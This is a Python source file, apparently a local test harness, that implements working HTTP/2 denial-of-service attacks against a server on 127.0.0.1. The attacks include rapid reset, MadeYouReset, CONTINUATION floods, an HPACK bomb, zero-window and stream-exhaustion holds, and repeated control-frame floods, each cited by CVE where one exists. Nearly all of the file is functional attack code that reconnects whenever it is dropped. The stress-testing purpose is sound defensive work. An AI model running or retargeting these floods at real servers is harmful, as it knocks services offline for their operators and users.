"""Clients of HTTP/2 that attack a server. Written for Python 3 without further packages.

    h2_attackers.py PORT SECONDS ROLE=COUNT ...

An attacker that the server closes comes again at once, and sends as fast as the server reads unless it holds. After SECONDS, it prints a line of JSON:
bytes sent and connections made. A role that holds prints that as soon as the server has read all of it, and stays for SECONDS.

resets         requests that are reset at once (rapid reset, CVE-2023-44487)
made_resets    requests for which the server is made to reset the stream (MadeYouReset, CVE-2025-8671)
continuations  a header block without an end (CVE-2024-27316)
settings, pings, empty_data, windows, priorities, unknown    one frame again and again; answers are not read
zero_window    holds: as many large files as there are streams, with windows that stay shut
bombs          holds: a long field, to which the unfinished requests of all streams refer (HPACK bomb)
streams        holds: unfinished requests on all streams
"""

import json
import select
import socket
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAMS = 128
CONNECTS_PER_TURN, CHUNKS_PER_TURN = 50, 8
#: Of the answer to the PING that shows that the server has read what came before.
READ_ALL = b"read all"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(path, stream, flags=END_STREAM | END_HEADERS):
    # GET, http, the path as a literal that changes no table.
    return frame(HEADERS, flags, stream, b"\x82\x86\x04" + bytes([len(path)]) + path)


def again(one, count=200):
    while True:
        yield one * count


def on_streams(one):
    stream = 1
    while True:
        yield b"".join(one(number) for number in range(stream, stream + 200, 2))
        stream += 200


def made_reset(stream):
    """A request, and a frame in error behind it: DATA behind its end, or a window opened by nothing."""
    error = frame(DATA, 0, stream, b"x") if stream % 4 == 1 else frame(WINDOW_UPDATE, 0, stream, bytes(4))
    return request(b"/large.bin", stream) + error


def continuations():
    yield request(b"/text.txt", 1, flags=0)
    yield from again(frame(CONTINUATION, 0, 1, b"\x00\x01a\x05aaaaa"))


def zero_window():
    yield frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    yield b"".join(request(b"/sparse.bin", 2 * number + 1) for number in range(STREAMS))


def bombs():
    # Behind the pseudo-fields, a field of as many bytes as the dynamic table holds. 'a' is three in the Huffman code: 5 bits.
    value = int("00011" * 4024, 2).to_bytes(4024 * 5 // 8, "big")
    length = len(value) - 127
    field = b"\x40\x01a\xff" + bytes([length & 127 | 128, length >> 7]) + value
    pseudo = b"\x82\x86\x84"
    yield frame(HEADERS, END_HEADERS, 1, pseudo + field)
    yield b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, pseudo + b"\xbe" * 3) for number in range(1, STREAMS))


def streams():
    yield b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, b"\x82\x86\x84") for number in range(STREAMS))


def empty_data():
    yield request(b"/text.txt", 1, END_HEADERS)
    yield from again(frame(DATA, 0, 1))


FLOODS = {
    "resets": lambda: on_streams(lambda stream: request(b"/large.bin", stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")),
    "made_resets": lambda: on_streams(made_reset),
    "continuations": continuations,
    "empty_data": empty_data,
    "settings": lambda: again(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff")),
    "pings": lambda: again(frame(PING, 0, 0, b"12345678")),
    "windows": lambda: again(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "priorities": lambda: again(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "unknown": lambda: again(frame(0x77, 0, 0)),
}
HOLDS = {"zero_window": zero_window, "bombs": bombs, "streams": streams}
#: Those that do not read what comes.
DEAF = {"settings", "pings"}


class Attacker:
    def __init__(self, role):
        self.role, self.stream, self.chunks, self.rest, self.tail, self.is_held = role, None, None, b"", b"", False

    def begin(self, port):
        self.stream = stream = socket.socket()
        stream.setblocking(False)
        stream.connect_ex(("127.0.0.1", port))
        self.chunks, self.rest, self.tail = self.all_chunks(), b"", b""

    def all_chunks(self):
        yield PREFACE + frame(SETTINGS, 0, 0)
        yield from (FLOODS.get(self.role) or HOLDS[self.role])()
        yield frame(PING, 0, 0, READ_ALL)

    def send(self):
        """Sends as much as the server takes, and at most some chunks. Returns the bytes, and whether there is more."""
        sent = 0
        for _ in range(CHUNKS_PER_TURN):
            self.rest = self.rest or next(self.chunks, b"")
            if not self.rest:
                return sent, False
            try:
                count = self.stream.send(self.rest)
            except BlockingIOError:
                break
            sent, self.rest = sent + count, self.rest[count:]
        return sent, True

    def receive(self):
        """Takes what has come. Returns whether the connection goes on."""
        got = self.stream.recv(1 << 16)
        self.is_held |= READ_ALL in self.tail + got
        self.tail = got[-len(READ_ALL):]
        return bool(got)


class Attack:
    def __init__(self, port, attackers):
        self.port, self.poll, self.open, self.coming = port, select.epoll(), {}, attackers
        self.attackers, self.sent, self.connects = list(attackers), 0, 0

    def come(self):
        coming, self.coming = self.coming[:CONNECTS_PER_TURN], self.coming[CONNECTS_PER_TURN:]
        for attacker in coming:
            attacker.begin(self.port)
            self.connects += 1
            self.open[attacker.stream.fileno()] = attacker
            self.poll.register(attacker.stream.fileno(), self.events(attacker, True))

    @staticmethod
    def events(attacker, has_more):
        reads = 0 if attacker.role in DEAF else select.EPOLLIN
        return reads | select.EPOLLRDHUP | (select.EPOLLOUT if has_more else 0)

    def turn(self, until):
        self.come()
        wait_s = 0 if self.coming else max(until - time.monotonic(), 0)
        for number, events in self.poll.poll(min(wait_s, 0.1)):
            attacker = self.open[number]
            try:
                if events & select.EPOLLIN and not attacker.receive():
                    raise ConnectionResetError
                if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP) and not events & select.EPOLLIN:
                    raise ConnectionResetError
                if events & select.EPOLLOUT:
                    sent, has_more = attacker.send()
                    self.sent += sent
                    self.poll.modify(number, self.events(attacker, has_more))
            except OSError:
                del self.open[number]
                attacker.stream.close()
                self.coming.append(attacker)

    def run(self, seconds):
        began = time.monotonic()
        said = False
        while time.monotonic() < began + seconds:
            self.turn(began + seconds)
            if not said and all(attacker.is_held for attacker in self.attackers):
                said = True
                self.say()
        if not said:
            self.say()

    def say(self):
        print(json.dumps({"sent": self.sent, "connects": self.connects}), flush=True)


def main():
    port, seconds, *roles = sys.argv[1:]
    counts = [(role, int(count)) for role, _, count in (word.partition("=") for word in roles)]
    Attack(int(port), [Attacker(role) for role, count in counts for _ in range(count)]).run(float(seconds))


main()
